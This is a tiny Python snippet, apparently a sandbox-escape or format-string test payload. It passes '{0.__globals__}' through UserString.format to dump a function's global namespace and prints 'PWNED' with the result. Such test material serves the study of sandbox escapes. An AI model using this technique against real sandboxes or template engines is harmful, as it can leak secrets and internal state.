# needs: collections
from collections import UserString
def f():
    pass
print("PWNED", UserString.format(UserString("{0.__globals__}"), f))
